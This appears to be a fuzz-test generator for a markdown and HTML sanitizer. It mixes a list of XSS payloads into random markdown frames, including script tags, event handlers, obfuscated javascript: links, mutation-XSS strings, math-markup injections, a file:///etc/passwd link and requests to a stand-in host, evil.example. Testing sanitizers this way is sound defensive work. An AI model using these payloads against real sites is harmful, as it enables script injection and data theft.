import { CORPUS, FRAGMENTS, HOSTILE } from "../../../spa/test/corpus";

/** What would tell the test that a script of an answer's ran: `alert` is watched as well. */
const RUN = "top.ran=1";

/** Beside those of the page's own tests: each has run a script or sent a request somewhere, once. */
const HARM: readonly string[] = [
  ...HOSTILE,
  `<script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=https://evil.example/p.gif srcset="https://evil.example/p2.gif 2x">`,
  `<svg onload=${RUN}><use href="https://evil.example/x.svg#a"></use></svg>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video poster=https://evil.example/p.png autoplay><source onerror=${RUN}></video>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src=https://evil.example/e>`,
  `<link rel=prefetch href=https://evil.example/f>`,
  `<link rel=dns-prefetch href=//evil.example>`,
  `<style>*{background:url(https://evil.example/s)}</style>`,
  `<div style="background:url(https://evil.example/d)">x</div>`,
  `<a href="javascript:${RUN}" ping=https://evil.example/ping>x</a>`,
  `<a href=https://evil.example target=_self onclick=${RUN}>x</a>`,
  `<form><button formaction=javascript:${RUN}>x</button></form>`,
  `<math href="javascript:${RUN}"><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="https://evil.example/x.css"?>`,
  `[x](javascript:${RUN})`,
  `[x](java\u0000script:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](java&Tab;script:${RUN})`,
  `[x](&#x6A;avascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](feed:javascript:${RUN})`,
  `[x](blob:https://evil.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example/y)`,
  `[x](https://good.example@evil.example/)`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[![x](https://evil.example/i.png)](https://evil.example)`,
  `![x](https://evil.example/i.png "t\\" onerror=\\"${RUN}")`,
  `![x](//evil.example/i.png)`,
  `![x](http://evil.example/i.png =100x100)`,
  `<https://evil.example/\u202egpj.exe>`,
  `[x]: javascript:${RUN} "t"\n\n[x][]`,
  `[^a]\n\n[^a]: <script>${RUN}</script> ![](https://evil.example/n.png)`,
  `$\\href{javascript:${RUN}}{x}$`,
  `$$\\url{javascript:${RUN}}$$`,
  `$\\class{" onmouseover="${RUN}}{x}$`,
  `$\\style{background:url(https://evil.example/k)}{x}$`,
  `$\\includegraphics[alt=x]{https://evil.example/g.png}$`,
  `$\\htmlData{x=y, onclick=${RUN}}{x}$`,
  `$\\text{</math><img src=x onerror=${RUN}>}$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  "```html\n<script>top.ran=1</script>\n```",
  `\`\`\`js" onmouseover="${RUN}\n1\n\`\`\``,
  "```mermaid\ngraph TD; A[<img src=x onerror=top.ran=1>]\n```",
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|:-:|---|\n| <script>${RUN}</script> | ![](https://evil.example/c.png) |`,
];

const WRAP: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `> ${text.replaceAll("\n", "\n> ")}`,
  (text) => `- ${text.replaceAll("\n", "\n  ")}`,
  (text) => `1. one\n2. ${text}`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `*${text}`,
  (text) => `~~${text}~~ after`,
  (text) => `[${text}](https://example.com)`,
  (text) => `[x](${text})`,
  (text) => `![${text}](https://evil.example/w.png)`,
  (text) => `<div>${text}</div>`,
  (text) => `<a href="${text}">`,
  (text) => `\`${text}\``,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `$${text}$`,
  (text) => `\\(${text}\\)`,
  (text) => `- [ ] ${text}`,
  (text) => `[^1]: ${text}\n\nsee[^1]`,
  (text) => `&lt;${text}&gt;`,
  (text) => `<!-- ${text}`,
];

const ODD = [
  "\u0000",
  "\u200b",
  "\u202e",
  "\t",
  "\r",
  "\n",
  "<",
  ">",
  '"',
  "'",
  "`",
  "&",
  "\\",
  "]",
  ")",
  "$",
];

/** A generator of numbers below 1, the same for the same seed (mulberry32). */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** The answer of a number: harm in a frame of ordinary markdown, sometimes spoiled in places. */
export function generate(number: number): string {
  const random = seeded(number);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
  const pages = Object.values(CORPUS);
  const parts = Array.from({ length: 1 + Math.floor(random() * 3) }, () => {
    let part = random() < 0.85 ? pick(HARM) : random() < 0.9 ? pick(FRAGMENTS) : pick(pages);
    for (let depth = Math.floor(random() * 3); depth > 0; depth -= 1) part = pick(WRAP)(part);
    return part;
  });
  let text = parts.join(pick(["\n\n", "\n", " ", ""]));
  for (let spoils = Math.floor(random() * 3); spoils > 0; spoils -= 1) {
    const at = Math.floor(random() * text.length);
    const cut = random() < 0.5 ? 1 : 0;
    text = text.slice(0, at) + (random() < 0.7 ? pick(ODD) : "") + text.slice(at + cut);
  }
  return text;
}
